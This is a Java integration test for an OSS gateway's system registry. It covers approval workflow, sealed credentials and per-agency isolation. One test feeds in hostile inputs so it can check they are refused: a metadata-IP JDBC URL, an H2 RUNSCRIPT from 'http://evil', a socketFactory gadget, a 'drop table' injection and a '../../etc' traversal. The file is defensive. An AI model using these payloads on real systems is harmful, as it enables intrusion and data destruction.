package id.ossgateway.it;

import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.Paths;
import java.security.KeyPair;
import java.security.KeyPairGenerator;
import java.sql.Connection;
import java.sql.Statement;
import java.time.Duration;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.apache.camel.CamelContext;
import org.apache.ftpserver.FtpServer;
import org.apache.sshd.common.config.keys.KeyUtils;
import org.apache.sshd.common.config.keys.writer.openssh.OpenSSHKeyPairResourceWriter;
import org.apache.sshd.server.SshServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.context.SpringBootTest;
import org.springframework.jdbc.core.JdbcTemplate;
import org.springframework.test.context.DynamicPropertyRegistry;
import org.springframework.test.context.DynamicPropertySource;

/**
 * The registry end to end: OPD staff register a system of their OPD, an operator approves it, its records
 * reach the simulator; suspended, it stops; resumed, it goes on. On the real PostgreSQL, MariaDB and an
 * in-process FTP server. Also: credentials are stored sealed, and OPD staff cannot see another OPD. The role
 * matrix over every endpoint is {@link AuthorizationMatrixIT}.
 */
@SpringBootTest(webEnvironment = SpringBootTest.WebEnvironment.DEFINED_PORT)
class RegistryIT {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final HttpClient HTTP = HttpClient.newHttpClient();
    private static final Path WORK = tempDir();
    private static final Path FTP_HOME = WORK.resolve("ftp");
    private static final String RUN = UUID.randomUUID().toString().substring(0, 6);
    private static final String PASSWORD = "staff-pass-" + RUN;
    private static final List<String> SYSTEMS = List.of("reg-pg-" + RUN, "reg-maria-" + RUN, "reg-ftp-" + RUN,
            "reg-push-" + RUN, "reg-sftp-" + RUN);
    private static int port;
    private static int ftpPort;
    private static FtpServer ftp;

    @Autowired
    JdbcTemplate state;
    @Autowired
    CamelContext camel;
    @org.springframework.beans.factory.annotation.Value("${gateway.registry.folder-root}")
    Path folderRoot;

    @DynamicPropertySource
    static void properties(DynamicPropertyRegistry registry) throws Exception {
        port = GatewayTestSupport.register(registry);
        Path mappings = Files.createDirectories(WORK.resolve("mappings"));
        String feed = Files.readString(Paths.get("src/test/resources/it/mappings/it-feed.yaml"));
        for (String system : SYSTEMS) {
            Files.writeString(mappings.resolve(system + ".yaml"), feed.replace("system: it-feed", "system: " + system));
        }
        registry.add("gateway.mappings-dir", mappings::toString);
        registry.add("camel.component.kamelet.location", () -> "file:" + Paths.get("routes/kamelets").toAbsolutePath());
        registry.add("gateway.registry.min-schedule-ms", () -> "1000");
        // the legacy servers of this test run on this machine: loopback must be allowed explicitly
        registry.add("gateway.registry.outbound-allow[0]", () -> "127.0.0.1");
        ftpPort = GatewayTestSupport.freePort();
        startFtp();
    }

    private static boolean prepared;

    /** Once, after the gateway started (a static @BeforeAll would run before it). */
    @BeforeEach
    void opdsAndUsers() {
        if (prepared) {
            return;
        }
        prepared = true;
        LegacyDatabases.require(LegacyDatabases.POSTGRES, "postgres");
        LegacyDatabases.require(LegacyDatabases.MARIADB, "root");
        String admin = GatewayTestSupport.adminToken(port);
        for (String opd : List.of("dinkes-" + RUN, "dishub-" + RUN)) {
            call(admin, "POST", "/api/v1/opds", Map.of("code", opd, "name", "Dinas " + opd, "contactName", "Petugas TI"));
            call(admin, "POST", "/api/v1/users", Map.of("username", "staff-" + opd, "password", PASSWORD,
                    "role", "OPD_STAFF", "opdCode", opd));
        }
        call(admin, "POST", "/api/v1/users", Map.of("username", "integrator-" + RUN, "password", PASSWORD,
                "role", "INTEGRATOR"));
    }

    /**
     * Regression (issue 17, 7): a FOLDER system could point at another system's drop folder. Steps: one OPD
     * registers folder drops/A; another OPD's system on the same folder, or inside it, is refused; a sibling is not.
     */
    @Test
    void oneFolderBelongsToOneSystem() throws Exception {
        // RemotePaths refuses every folder while the drop root itself does not exist yet: make it, as an install does
        Files.createDirectories(folderRoot);
        String admin = GatewayTestSupport.adminToken(port);
        String dishub = GatewayTestSupport.token(port, "staff-dishub-" + RUN, PASSWORD);
        HttpResponse<String> first = call(admin, "POST", "/api/v1/systems", folderSystem("reg-fa-" + RUN, "dinkes-" + RUN,
                "drops/fa-" + RUN));
        assertThat(first.statusCode()).as(first.body()).isEqualTo(201);
        for (String path : List.of("drops/fa-" + RUN, "drops/fa-" + RUN + "/", "drops/./fa-" + RUN, "drops/fa-" + RUN + "/done", "drops")) {
            HttpResponse<String> r = call(dishub, "POST", "/api/v1/systems", folderSystem("reg-fb-" + RUN, "dishub-" + RUN, path));
            assertThat(r.statusCode()).as(path).isEqualTo(409);
            assertThat(r.body()).as(path).contains("reg-fa-" + RUN, "one folder, one system");
        }
        HttpResponse<String> sibling = call(dishub, "POST", "/api/v1/systems", folderSystem("reg-fb-" + RUN,
                "dishub-" + RUN, "drops/fb-" + RUN));
        assertThat(sibling.statusCode()).as(sibling.body()).isEqualTo(201);
    }

    private static Map<String, Object> folderSystem(String id, String opd, String path) {
        return Map.of("id", id, "opdCode", opd, "kind", "FOLDER", "scheduleMs", 5000, "settings", Map.of("path", path));
    }

    @AfterAll
    static void stopFtp() {
        if (ftp != null) {
            ftp.stop();
        }
    }

    @Test
    void aPostgresSystemIsRegisteredApprovedDeliveredSuspendedResumedAndSentBackAfterAnEdit() throws Exception {
        String system = "reg-pg-" + RUN;
        String table = "reg_pg_" + RUN;
        try (Connection c = LegacyDatabases.connect(LegacyDatabases.POSTGRES, "postgres")) {
            createTable(c, table);
            insert(c, table, 1, system + "-1");
            insert(c, table, 2, system + "-2");
        }
        String staff = GatewayTestSupport.token(port, "staff-dinkes-" + RUN, PASSWORD);
        String secret = "pg-secret-" + UUID.randomUUID();
        HttpResponse<String> created = call(staff, "POST", "/api/v1/systems", sqlSystem(system, "dinkes-" + RUN,
                LegacyDatabases.POSTGRES, "postgres", secret, table));
        assertThat(created.statusCode()).isEqualTo(201);
        assertThat(created.body()).doesNotContain(secret).contains("\"secretsSet\":[\"password\"]", "\"state\":\"DRAFT\"");

        // what is stored is ciphertext bound to the system, in the row and in the audit trail alike
        String stored = state.queryForObject("select secrets from opd_system where id = ?", String.class, system);
        assertThat(stored).doesNotContain(secret).matches("[0-9a-f]{8}:[A-Za-z0-9+/=]+");
        assertThat(state.queryForList("select detail from audit_log where target = ?", String.class, "system:" + system))
                .noneMatch(d -> d != null && d.contains(secret));

        assertThat(call(staff, "POST", "/api/v1/systems/" + system + "/approve", Map.of("version", version(staff, system))).statusCode()).isEqualTo(403);
        assertThat(state(call(staff, "POST", "/api/v1/systems/" + system + "/submit", null))).isEqualTo("SUBMITTED");
        String admin = GatewayTestSupport.adminToken(port);
        assertThat(delivered(system)).isZero();

        // the approval race (issue 17, 6): the operator reviewed one version, OPD staff changed the system after
        // submitting it; approving what was reviewed is refused, the new version needs its own approval
        int reviewed = version(admin, system);
        assertThat(call(staff, "PUT", "/api/v1/systems/" + system, Map.of("scheduleMs", 1500)).statusCode()).isEqualTo(200);
        HttpResponse<String> stale = call(admin, "POST", "/api/v1/systems/" + system + "/approve", Map.of("version", reviewed));
        assertThat(stale.statusCode()).isEqualTo(409);
        assertThat(stale.body()).contains("changed after version " + reviewed);
        assertThat(call(admin, "POST", "/api/v1/systems/" + system + "/approve", null).statusCode())
                .as("an approval without a version").isEqualTo(400);
        assertThat(state(approve(admin, system))).isEqualTo("ACTIVE");
        await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 2);

        assertThat(state(call(admin, "POST", "/api/v1/systems/" + system + "/suspend", Map.of("reason", "maintenance"))))
                .isEqualTo("SUSPENDED");
        assertThat(camel.getRoute(system)).isNull();
        try (Connection c = LegacyDatabases.connect(LegacyDatabases.POSTGRES, "postgres")) {
            insert(c, table, 3, system + "-3");
        }
        await().during(Duration.ofSeconds(3)).atMost(Duration.ofSeconds(5)).until(() -> delivered(system) == 2);
        assertThat(state(call(admin, "POST", "/api/v1/systems/" + system + "/resume", null))).isEqualTo("ACTIVE");
        await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 3);

        // OPD staff change only how often it is read: no new approval, the source runs on with the new schedule
        JsonNode rescheduled = JSON.readTree(call(staff, "PUT", "/api/v1/systems/" + system,
                Map.of("scheduleMs", 2000)).body());
        assertThat(rescheduled.path("state").asText()).isEqualTo("ACTIVE");
        assertThat(camel.getRoute(system)).isNotNull();

        // OPD staff change where it reads from: it stops and waits for approval again
        Map<String, Object> elsewhere = new java.util.HashMap<>((Map<String, Object>) JSON.convertValue(
                rescheduled.path("settings"), Map.class));
        elsewhere.put("table", table + "_baru");
        JsonNode edited = JSON.readTree(call(staff, "PUT", "/api/v1/systems/" + system,
                Map.of("settings", elsewhere)).body());
        assertThat(edited.path("state").asText()).isEqualTo("SUBMITTED");
        assertThat(edited.path("stateReason").asText()).contains("needs approval again");
        assertThat(camel.getRoute(system)).isNull();

        assertThat(state(call(admin, "POST", "/api/v1/systems/" + system + "/retire", Map.of("reason", "replaced"))))
                .isEqualTo("RETIRED");
        JsonNode audit = JSON.readTree(call(staff, "GET", "/api/v1/systems/" + system + "/audit", null).body());
        assertThat(audit.findValuesAsText("action")).containsSubsequence("system.created", "system.submitted",
                "system.approved", "system.activated", "system.suspended", "system.resumed", "system.activated",
                "system.changed", "system.retired");
        assertThat(audit.findValuesAsText("actor")).contains("staff-dinkes-" + RUN, "admin");
    }

    @Test
    void aMariaDbSystemIsDeliveredAfterApprovalAndStopsWhenSuspended() throws Exception {
        String system = "reg-maria-" + RUN;
        String table = "reg_maria_" + RUN;
        try (Connection c = LegacyDatabases.connect(LegacyDatabases.MARIADB, "root")) {
            createTable(c, table);
            insert(c, table, 1, system + "-1");
        }
        String admin = GatewayTestSupport.adminToken(port);
        call(admin, "POST", "/api/v1/systems", sqlSystem(system, "dishub-" + RUN, LegacyDatabases.MARIADB, "root", "",
                table));
        call(admin, "POST", "/api/v1/systems/" + system + "/submit", null);
        assertThat(state(approve(admin, system))).isEqualTo("ACTIVE");
        await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 1);
        call(admin, "POST", "/api/v1/systems/" + system + "/suspend", null);
        try (Connection c = LegacyDatabases.connect(LegacyDatabases.MARIADB, "root")) {
            insert(c, table, 2, system + "-2");
        }
        await().during(Duration.ofSeconds(3)).atMost(Duration.ofSeconds(5)).until(() -> delivered(system) == 1);
    }

    @Test
    void anFtpSystemIsReadWithItsSealedPasswordAfterApproval() throws Exception {
        String system = "reg-ftp-" + RUN;
        Path outbox = Files.createDirectories(FTP_HOME.resolve("outbox"));
        Files.writeString(outbox.resolve(system + ".csv"), csv(system + "-1"), StandardCharsets.UTF_8);
        String admin = GatewayTestSupport.adminToken(port);
        call(admin, "POST", "/api/v1/systems", Map.of("id", system, "opdCode", "dinkes-" + RUN, "kind", "FTP",
                "scheduleMs", 1000, "settings", Map.of("host", "127.0.0.1", "port", String.valueOf(ftpPort),
                        "path", "outbox", "username", "opd", "delimiter", ";"),
                "secrets", Map.of("password", "ftp)secret(" + RUN)));
        call(admin, "POST", "/api/v1/systems/" + system + "/submit", null);
        assertThat(state(approve(admin, system))).isEqualTo("ACTIVE");
        await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 1);
        // the report is written when the file's exchange completes, which may be after the delivery
        await().atMost(Duration.ofSeconds(30)).until(() -> Files.exists(outbox.resolve("done").resolve(system + ".csv.result.txt")));
    }

    @Test
    void anSftpSystemLogsInWithItsSealedPrivateKey() throws Exception {
        String system = "reg-sftp-" + RUN;
        Path home = WORK.resolve("sftp");
        Path outbox = Files.createDirectories(home.resolve("outbox"));
        KeyPair key = KeyPairGenerator.getInstance("RSA").generateKeyPair();
        ByteArrayOutputStream pem = new ByteArrayOutputStream();
        OpenSSHKeyPairResourceWriter.INSTANCE.writePrivateKey(key, "opd@registry-it", null, pem);
        int sftpPort = GatewayTestSupport.freePort();
        SshServer sftp = DropServers.sftp(sftpPort, home, WORK.resolve("sftp-host.key"));
        sftp.setPublickeyAuthenticator((user, offered, session) -> user.equals("opd")
                && KeyUtils.compareKeys(offered, key.getPublic()));
        sftp.start();
        try {
            Files.writeString(outbox.resolve(system + ".csv"), csv(system + "-1"), StandardCharsets.UTF_8);
            String admin = GatewayTestSupport.adminToken(port);
            HttpResponse<String> created = call(admin, "POST", "/api/v1/systems", Map.of("id", system,
                    "opdCode", "dinkes-" + RUN, "kind", "SFTP", "scheduleMs", 1000,
                    "settings", Map.of("host", "127.0.0.1", "port", String.valueOf(sftpPort), "path", "outbox",
                            "username", "opd", "delimiter", ";"),
                    "secrets", Map.of("privateKey", pem.toString(StandardCharsets.UTF_8))));
            assertThat(created.statusCode()).as(created.body()).isEqualTo(201);
            assertThat(created.body()).doesNotContain("PRIVATE KEY");
            call(admin, "POST", "/api/v1/systems/" + system + "/submit", null);
            assertThat(state(approve(admin, system))).isEqualTo("ACTIVE");
            await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 1);
            assertThat(camel.getEndpoints()).noneMatch(e -> e.getEndpointUri().contains("PRIVATE KEY"));
        } finally {
            sftp.stop(true);
        }
    }

    @Test
    void aPushSystemAcceptsRecordsWithItsKeyOnlyWhileActive() throws Exception {
        String system = "reg-push-" + RUN;
        String staff = GatewayTestSupport.token(port, "staff-dinkes-" + RUN, PASSWORD);
        call(staff, "POST", "/api/v1/systems", Map.of("id", system, "kind", "REST_PUSH"));
        String key = JSON.readTree(call(staff, "POST", "/api/v1/systems/" + system + "/push-key", null).body())
                .path("apiKey").asText();
        assertThat(push(system, key).statusCode()).as("not approved yet").isEqualTo(404);
        call(staff, "POST", "/api/v1/systems/" + system + "/submit", null);
        approve(GatewayTestSupport.adminToken(port), system);
        assertThat(push(system, "opd_wrong").statusCode()).isEqualTo(401);
        assertThat(push(system, key).statusCode()).isEqualTo(202);
        await().atMost(Duration.ofSeconds(30)).until(() -> delivered(system) == 1);
        assertThat(state.queryForObject("select push_key_hash from opd_system where id = ?", String.class, system))
                .doesNotContain(key).hasSize(64);
    }

    @Test
    void opdStaffSeeTheirOwnOpdOnlyAndAnotherOpdsSystemIsNotFound() throws Exception {
        String system = "reg-own-" + RUN;
        String dinkes = GatewayTestSupport.token(port, "staff-dinkes-" + RUN, PASSWORD);
        String dishub = GatewayTestSupport.token(port, "staff-dishub-" + RUN, PASSWORD);
        assertThat(call(dinkes, "POST", "/api/v1/systems", Map.of("id", system, "kind", "REST_PUSH",
                "opdCode", "dishub-" + RUN)).statusCode()).isEqualTo(201);
        // staff register for their own OPD whatever they send
        assertThat(JSON.readTree(call(dinkes, "GET", "/api/v1/systems/" + system, null).body()).path("opdCode").asText())
                .isEqualTo("dinkes-" + RUN);
        assertThat(call(dishub, "GET", "/api/v1/systems/" + system, null).statusCode()).isEqualTo(404);
        assertThat(call(dishub, "PUT", "/api/v1/systems/" + system, Map.of("name", "mine now")).statusCode()).isEqualTo(404);
        assertThat(call(dishub, "POST", "/api/v1/systems/" + system + "/submit", null).statusCode()).isEqualTo(404);
        assertThat(call(dishub, "GET", "/api/v1/systems/" + system + "/audit", null).statusCode()).isEqualTo(404);
        assertThat(call(dishub, "GET", "/api/v1/systems", null).body()).doesNotContain(system);
        assertThat(call(dishub, "GET", "/api/v1/opds/dinkes-" + RUN, null).statusCode()).isEqualTo(404);
        assertThat(JSON.readTree(call(dishub, "GET", "/api/v1/opds", null).body()).findValuesAsText("code"))
                .containsExactly("dishub-" + RUN);
    }

    @Test
    void unsafeTargetsAndSettingsAreRefusedWithTheSettingNamed() throws Exception {
        String admin = GatewayTestSupport.adminToken(port);
        Map<String, String> refused = Map.of(
                "jdbc:postgresql://169.254.169.254:5432/test", "jdbcUrl",
                "jdbc:postgresql://127.0.0.2:5432/test", "jdbcUrl",
                "jdbc:mariadb://127.0.0.1:3306/test?allowLoadLocalInfile=true", "allowLoadLocalInfile",
                "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'", "jdbcUrl",
                "jdbc:postgresql://127.0.0.1:5432/test?socketFactory=java.io.FileOutputStream", "socketFactory");
        for (Map.Entry<String, String> bad : refused.entrySet()) {
            HttpResponse<String> r = call(admin, "POST", "/api/v1/systems", sqlSystem("reg-bad-" + RUN, "dinkes-" + RUN,
                    bad.getKey(), "postgres", "", "izin"));
            assertThat(r.statusCode()).as(bad.getKey()).isEqualTo(400);
            assertThat(r.body()).as(bad.getKey()).contains(bad.getValue());
        }
        HttpResponse<String> injection = call(admin, "POST", "/api/v1/systems", sqlSystem("reg-bad-" + RUN,
                "dinkes-" + RUN, LegacyDatabases.POSTGRES, "postgres", "", "izin; drop table izin"));
        assertThat(injection.statusCode()).isEqualTo(400);
        assertThat(injection.body()).contains("table");
        HttpResponse<String> escape = call(admin, "POST", "/api/v1/systems", Map.of("id", "reg-bad-" + RUN,
                "opdCode", "dinkes-" + RUN, "kind", "FTP", "settings", Map.of("host", "127.0.0.1", "path", "../../etc",
                        "username", "opd")));
        assertThat(escape.statusCode()).isEqualTo(400);
        assertThat(escape.body()).contains("path");
        assertThat(call(admin, "GET", "/api/v1/systems/reg-bad-" + RUN, null).statusCode()).isEqualTo(404);

        // an operator allows one more host: the same registration now passes
        String other = "jdbc:postgresql://127.0.0.2:5432/test";
        assertThat(call(admin, "POST", "/api/v1/outbound-allowlist", Map.of("entry", "127.0.0.2", "note", "IT"))
                .statusCode()).isEqualTo(201);
        assertThat(call(admin, "POST", "/api/v1/systems", sqlSystem("reg-other-" + RUN, "dinkes-" + RUN, other,
                "postgres", "", "izin")).statusCode()).isEqualTo(201);
        assertThat(call(admin, "POST", "/api/v1/outbound-allowlist", Map.of("entry", "not a host!"))
                .statusCode()).isEqualTo(400);
    }

    @Test
    void testConnectionGivesAVerdictBeforeAndAfterRegistering() throws Exception {
        String table = "reg_conn_" + RUN;
        try (Connection c = LegacyDatabases.connect(LegacyDatabases.MARIADB, "root")) {
            createTable(c, table);
        }
        String staff = GatewayTestSupport.token(port, "staff-dinkes-" + RUN, PASSWORD);
        Map<String, Object> settings = sqlSystem("reg-conn-" + RUN, null, LegacyDatabases.MARIADB, "root", "", table);
        JsonNode ok = JSON.readTree(call(staff, "POST", "/api/v1/systems/test-connection", settings).body());
        assertThat(ok.path("ok").asBoolean()).as(ok.toString()).isTrue();
        JsonNode missing = JSON.readTree(call(staff, "POST", "/api/v1/systems/test-connection",
                sqlSystem("x", null, LegacyDatabases.MARIADB, "root", "", table + "_renamed")).body());
        assertThat(missing.path("code").asText()).isEqualTo("TABLE_MISSING");
        assertThat(missing.path("message").asText()).contains(table + "_renamed");

        assertThat(call(staff, "POST", "/api/v1/systems", settings).statusCode()).isEqualTo(201);
        JsonNode registered = JSON.readTree(call(staff, "POST", "/api/v1/systems/reg-conn-" + RUN + "/test-connection",
                null).body());
        assertThat(registered.path("code").asText()).as(registered.toString()).isEqualTo("OK");
        String dishub = GatewayTestSupport.token(port, "staff-dishub-" + RUN, PASSWORD);
        assertThat(call(dishub, "POST", "/api/v1/systems/reg-conn-" + RUN + "/test-connection", null).statusCode())
                .isEqualTo(404);
    }

    private static Map<String, Object> sqlSystem(String id, String opd, String url, String user, String password,
                                                 String table) {
        Map<String, Object> system = new java.util.HashMap<>(Map.of("id", id, "kind", "SQL", "name", "SIMPEL " + id,
                "scheduleMs", 1000, "settings", Map.of("jdbcUrl", url, "username", user, "table", table, "watermarkColumn", "updated_at",
                        "keyColumn", "row_id"),
                "secrets", Map.of("password", password)));
        if (opd != null) {
            system.put("opdCode", opd);
        }
        return system;
    }

    private static void createTable(Connection c, String table) throws Exception {
        try (Statement s = c.createStatement()) {
            s.execute("create table " + table + " (row_id int primary key, id_izin varchar(25), nib char(13),"
                    + " id_produk varchar(20), id_proyek varchar(20), oss_id varchar(20), kd_izin varchar(20),"
                    + " kd_instansi varchar(10), kd_status varchar(5), tgl_status varchar(20), nip_status varchar(20),"
                    + " nama_status varchar(50), keterangan varchar(100), updated_at timestamp)");
        }
    }

    private static void insert(Connection c, String table, int row, String idIzin) throws Exception {
        try (Statement s = c.createStatement()) {
            s.execute("insert into " + table + " values (" + row + ", '" + idIzin + "', '9120301234567', 'P-1',"
                    + " 'R-2026000001', 'OSS0000000001', 'I-012345', '001', '10', '2026-11-02 10:00:00',"
                    + " '198001012005011001', 'Petugas', 'catatan', timestamp '2026-11-02 10:00:0" + row + "')");
        }
    }

    private static String csv(String idIzin) {
        return "id_izin;nib;id_produk;id_proyek;oss_id;kd_izin;kd_instansi;kd_status;tgl_status;nip_status;"
                + "nama_status;keterangan\n" + idIzin + ";9120301234567;P-1;R-2026000001;OSS0000000001;I-012345;001;10;"
                + "2026-11-02 10:00:00;198001012005011001;Petugas;catatan\n";
    }

    private static HttpResponse<String> push(String system, String key) throws Exception {
        ObjectNode record = JSON.valueToTree(Records.status(system + "-1", "10", "2026-11-02 10:00:00").fields());
        return HTTP.send(HttpRequest.newBuilder(java.net.URI.create("http://localhost:" + port + "/api/v1/inbound/" + system))
                .header("X-Api-Key", key).header("Content-Type", "application/json")
                .POST(HttpRequest.BodyPublishers.ofString(record.toString())).build(), HttpResponse.BodyHandlers.ofString());
    }

    private static String state(HttpResponse<String> reply) throws IOException {
        assertThat(reply.statusCode()).as(reply.body()).isLessThan(300);
        return JSON.readTree(reply.body()).path("state").asText();
    }

    /** Approves the version the system has now, as an operator who just reviewed it. */
    static HttpResponse<String> approve(String token, String system) {
        return call(token, "POST", "/api/v1/systems/" + system + "/approve", Map.of("version", version(token, system)));
    }

    static int version(String token, String system) {
        try {
            return JSON.readTree(call(token, "GET", "/api/v1/systems/" + system, null).body()).path("version").asInt();
        } catch (java.io.IOException e) {
            throw new java.io.UncheckedIOException(e);
        }
    }

    static HttpResponse<String> call(String token, String method, String path, Object body) {
        return call(token, method, path, body, port);
    }

    /** A call to the gateway on {@code gatewayPort} with an API token (none: anonymous). */
    static HttpResponse<String> call(String token, String method, String path, Object body, int gatewayPort) {
        try {
            HttpRequest.Builder b = HttpRequest.newBuilder(java.net.URI.create("http://localhost:" + gatewayPort + path))
                    .header("Content-Type", "application/json")
                    .method(method, body == null ? HttpRequest.BodyPublishers.noBody()
                            : HttpRequest.BodyPublishers.ofString(JSON.writeValueAsString(body)));
            if (token != null) {
                b.header("Authorization", "Bearer " + token);
            }
            return HTTP.send(b.build(), HttpResponse.BodyHandlers.ofString());
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
            throw new IllegalStateException(e);
        }
    }

    private long delivered(String prefix) {
        long n = 0;
        for (JsonNode c : GatewayTestSupport.get(port, "/oss-sim/_calls?method=receiveLicenseStatus")) {
            if (c.path("body").path("IZINSTATUS").path("id_izin").asText().startsWith(prefix + "-")
                    && c.path("reply").path("status").asInt() == 200) {
                n++;
            }
        }
        return n;
    }

    private static void startFtp() throws Exception {
        // a password with parentheses: the FTP URI must carry it as RAW{...}, not RAW(...)
        ftp = DropServers.ftp(ftpPort, FTP_HOME, "ftp)secret(" + RUN);
    }

    private static Path tempDir() {
        try {
            return Files.createTempDirectory("registry-it");
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }
}
